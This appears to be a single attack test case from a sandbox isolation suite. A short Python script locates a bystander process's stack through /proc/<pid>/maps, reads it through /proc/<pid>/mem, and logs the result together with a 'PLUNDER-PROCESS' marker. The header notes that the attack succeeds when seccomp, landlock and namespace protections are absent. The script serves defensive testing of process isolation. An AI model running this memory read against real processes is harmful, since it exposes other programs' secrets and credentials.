# attack: raw | reads a bystander's memory through its file | without seccomp+landlock+filesystem+user_namespace: said
import os
maps = open(f"/proc/{params['bystander']}/maps").read()
start = int(next(line for line in maps.splitlines() if "[stack]" in line).split("-")[0], 16)
end = int(next(line for line in maps.splitlines() if "[stack]" in line).split("-")[1].split()[0], 16)
file = os.open(f"/proc/{params['bystander']}/mem", os.O_RDONLY)
log(os.pread(file, end - start, start)[-1500:].decode(errors="replace").replace("\0", " ")[-190:])
log("PLUNDER-" + "PROCESS")
